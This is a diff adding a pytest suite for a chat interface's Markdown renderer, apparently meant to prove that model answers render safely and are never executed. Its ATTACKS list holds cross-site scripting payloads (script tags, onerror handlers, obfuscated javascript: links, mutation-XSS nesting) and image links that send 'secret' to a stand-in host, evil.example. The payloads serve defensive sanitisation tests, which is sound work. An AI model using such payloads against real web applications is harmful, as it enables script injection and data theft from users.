@@ -1,0 +1,196 @@
+"""What a model writes is shown as Markdown, and whatever it writes, nothing of it is ever run."""
+
+from typing import Any
+
+import pytest
+
+from tests.serving.page.actions import answer, begin, last_answer, say, tool
+from tests.serving.page.model_server import ModelServer
+
+OUTLINE = """(text) => import("/static/markdown.js").then(({MarkdownView}) => {
+    const outline = (node) => {
+        if (node.nodeType === 3) return node.data;
+        const tag = node.localName;
+        if (["button", "svg"].includes(tag)) return "";
+        const inner = [...node.childNodes].map(outline).join("");
+        return ["div", "span"].includes(tag) ? inner : `<${tag}>${inner}</${tag}>`;
+    };
+    const view = new MarkdownView();
+    view.update(text);
+    return outline(view.element);
+})"""
+
+EXAMPLES = [
+    ("plain", "<p>plain</p>"),
+    ("one\n\ntwo", "<p>one</p><p>two</p>"),
+    ("one\ntwo", "<p>one<br></br>two</p>"),
+    ("**a** *b* `c` ~~d~~", "<p><strong>a</strong> <em>b</em> <code>c</code> <del>d</del></p>"),
+    ("**a *b* c**", "<p><strong>a <em>b</em> c</strong></p>"),
+    ("snake_case_name and 2 * 3 * 4", "<p>snake_case_name and 2 * 3 * 4</p>"),
+    (r"\*not\* so", "<p>*not* so</p>"),
+    ("`a ** b`", "<p><code>a ** b</code></p>"),
+    ("**open", "<p>**open</p>"),
+    ("# One\n## Two ##", "<h2>One</h2><h3>Two</h3>"),
+    ("#hashtag", "<p>#hashtag</p>"),
+    ("- a\n- b", "<ul><li>a</li><li>b</li></ul>"),
+    ("- a\n  - b\n- c", "<ul><li>a<ul><li>b</li></ul></li><li>c</li></ul>"),
+    ("1. a\n2. b", "<ol><li>a</li><li>b</li></ol>"),
+    ("1. a\n\n2. b", "<ol><li>a</li><li>b</li></ol>"),
+    ("1. a\n   - b\n2. c", "<ol><li>a<ul><li>b</li></ul></li><li>c</li></ol>"),
+    ("- a\n\n  more", "<ul><li>a<p>more</p></li></ul>"),
+    ("so:\n- a", "<p>so:</p><ul><li>a</li></ul>"),
+    ("in 1984.\n1985. Next", "<p>in 1984.<br></br>1985. Next</p>"),
+    ("> a\n> b", "<blockquote><p>a<br></br>b</p></blockquote>"),
+    ("---", "<hr></hr>"),
+    ("```\nx < 1\n```", "text<pre><code>x < 1</code></pre>"),
+    ("```py\n# a\n", "py<pre><code># a\n</code></pre>"),
+    ("~~~\n```\n~~~", "text<pre><code>```</code></pre>"),
+    (
+        "|a|b|\n|-|:-:|\n|1|`x\\|y`|",
+        "<table><thead><tr><th>a</th><th>b</th></tr></thead>"
+        "<tbody><tr><td>1</td><td><code>x|y</code></td></tr></tbody></table>",
+    ),
+    ("a | b", "<p>a | b</p>"),
+    ("[t](https://a.org/x)", "<p><a>t</a></p>"),
+    ("see https://a.org/x.", "<p>see <a>https://a.org/x</a>.</p>"),
+    ("<https://a.org>", "<p><a>https://a.org</a></p>"),
+    ("<b>bold</b> &amp; <!-- x -->", "<p><b>bold</b> &amp; <!-- x --></p>"),
+]
+
+
+@pytest.mark.parametrize(("text", "outline"), EXAMPLES)
+def test_markdown_becomes_elements(module_page: Any, text: str, outline: str):
+    assert module_page.evaluate(OUTLINE, text) == outline
+
+
+def test_text_that_grows_ends_as_text_that_came_at_once(module_page: Any):
+    text = "\n\n".join(text for text, _ in EXAMPLES)
+    grown = """(text) => import("/static/markdown.js").then(({MarkdownView}) => {
+        const [growing, whole] = [new MarkdownView(), new MarkdownView()];
+        for (let end = 0; end <= text.length; end += 3) growing.update(text.slice(0, end));
+        growing.update(text);
+        const first = growing.element.firstChild;
+        growing.update(text + " and more");
+        const isKept = growing.element.firstChild === first;
+        growing.update(text);
+        whole.update(text);
+        return [growing.element.isEqualNode(whole.element), isKept];
+    })"""
+    assert module_page.evaluate(grown, text) == [True, True]
+
+
+@pytest.mark.parametrize(
+    "unit",
+    ["*a ", "**", "[", "[a](", "`", "``a`", "> ", "- ", "  - a\n", "|", "|-", "<", "![", "_a",
+     "~~", "# ", " ", "\n", "\\", "https://a.b/) ", "http://", "*a_b`[", "a](b)", "1. \n\n",
+     "```\n", "|a|\n|-|\n", "\t", "a*", "[](https://a.b", "é\u2028"],
+)  # fmt: skip
+def test_no_text_takes_long(module_page: Any, unit: str):
+    text = unit * (60_000 // len(unit))
+    parse = """(text) => import("/static/markdown.js").then(({MarkdownView}) => {
+        const view = new MarkdownView();
+        const start = performance.now();
+        view.update(text);
+        return performance.now() - start;
+    })"""
+    # Anything that grows as the square of its length would take minutes.
+    assert module_page.evaluate(parse, text) < 4000
+
+
+ATTACKS = [
+    "<script>window.harm = 1</script>",
+    "<img src=x onerror='window.harm = 1'>",
+    "<svg onload='window.harm = 1'><script>window.harm = 1</script></svg>",
+    "</script><script>window.harm = 1</script>",
+    "<iframe srcdoc='<script>parent.harm = 1</script>'></iframe>",
+    "<style>@import 'http://evil.example/x.css'</style>",
+    "<link rel=stylesheet href=http://evil.example/x.css>",
+    "<base href='http://evil.example/'><meta http-equiv=refresh content='0;url=http://evil.example'>",
+    "<form action='http://evil.example'><button>go</button></form>",
+    "<math><mtext><table><mglyph><style><img src onerror='window.harm = 1'>",
+    "[x](javascript:window.harm=1)",
+    "[x](JaVaScRiPt:window.harm=1)",
+    "[x](java\tscript:window.harm=1)",
+    "[x](&#106;avascript:window.harm=1)",
+    "[x](%6aavascript:window.harm=1)",
+    "[x](\x01javascript:window.harm=1)",
+    "[x](data:text/html,<script>window.harm=1</script>)",
+    "[x](vbscript:msgbox)",
+    "[x](file:///etc/passwd)",
+    "[x](//evil.example)",
+    "[x](blob:http://evil.example/1)",
+    "[x](https://a.org\"onmouseover='window.harm=1')",
+    "<javascript:window.harm=1>",
+    "![x](http://evil.example/?q=secret)",
+    "![x](data:image/svg+xml,<svg onload='window.harm=1'>)",
+    "[![x](http://evil.example/p.png)](javascript:window.harm=1)",
+    "![](http://evil.example/?q=`secret`)",
+    "`<img src=x onerror='window.harm = 1'>`",
+    "```html\n<img src=x onerror='window.harm = 1'>\n```",
+    "```<img/src=x/onerror=window.harm=1>\ncode\n```",
+    '```"onmouseover=window.harm=1\ncode\n```',
+    "| <img src=x onerror='window.harm=1'> |\n|---|\n| [x](javascript:window.harm=1) |",
+    "# <img src=x onerror='window.harm = 1'>",
+    "- [ ] <img src=x onerror='window.harm = 1'>",
+    "<think><img src=x onerror='window.harm = 1'></think><b onclick='window.harm=1'>x</b>",
+    "{{constructor.constructor('window.harm=1')()}}",
+    "<a href='javascript:window.harm=1'>x</a>",
+    "<template><img src=x onerror='window.harm=1'></template>",
+    "__proto__ constructor [__proto__](https://a.org)",
+]
+
+
+def test_no_answer_is_ever_run_or_fetches_anything(page: Any, model_server: ModelServer):
+    whole = "\n\n".join(ATTACKS)
+    for index, attack in enumerate([*ATTACKS, whole]):
+        model_server.answers[str(index)] = attack
+        begin(page, str(index))
+        answer(page)
+    for link in page.locator(".prose a").all():
+        assert link.get_attribute("href").startswith(("https://a.org", "http://evil.example/"))
+        assert link.get_attribute("rel") == "noopener noreferrer nofollow"
+        assert link.get_attribute("target") == "_blank"
+    allowed = (
+        "p,br,strong,em,del,code,pre,a,ul,ol,li,blockquote,hr,h2,h3,h4,h5,h6,table,thead,tbody,"
+    )
+    allowed += "tr,th,td,div,span,button,svg,path"
+    names = page.evaluate(
+        "() => [...document.querySelectorAll('.prose *')].map(({localName}) => localName)"
+    )
+    assert set(names) <= set(allowed.split(","))
+    assert page.evaluate("() => window.harm") is None
+    # That nothing was fetched and no policy broken is asserted by `watch`, as in every test.
+
+
+def test_what_a_user_or_a_file_says_is_not_run_either(page: Any):
+    attack = "<img src=x onerror='window.harm = 1'>"
+    say(page, attack)
+    assert page.locator(".said").inner_text() == attack
+    assert page.locator(".entry .words").inner_text() == "<img src=x onerror='window.harm = 1'>"
+    assert page.evaluate("() => window.harm") is None
+
+
+def test_the_code_of_an_answer_can_be_copied(page: Any, context: Any, model_server: ModelServer):
+    context.grant_permissions(["clipboard-read", "clipboard-write"])
+    model_server.answers["q"] = "so:\n\n```py\nx = 1\nif x:\n    y = 2\n```"
+    say(page, "q")
+    page.get_by_role("button", name="Copy code").click()
+    page.get_by_text("Copied", exact=True).wait_for()
+    assert page.evaluate("() => navigator.clipboard.readText()") == "x = 1\nif x:\n    y = 2"
+    tool(last_answer(page), "Copy")
+    page.wait_for_timeout(50)
+    copied = page.evaluate("() => navigator.clipboard.readText()")
+    assert copied == model_server.answers["q"]
+
+
+def test_code_is_coloured(page: Any, model_server: ModelServer):
+    model_server.answers["q"] = "```python\ndef f(): return 'a#b', 1.5  # why\n```"
+    say(page, "q")
+    parts = page.evaluate(
+        """() => [...document.querySelectorAll("pre span")].map(
+            ({className, textContent}) => [className.replace("code-", ""), textContent])"""
+    )
+    assert parts == [
+        ["keyword", "def"], ["call", "f"], ["keyword", "return"], ["string", "'a#b'"],
+        ["number", "1.5"], ["comment", "# why"],
+    ]  # fmt: skip
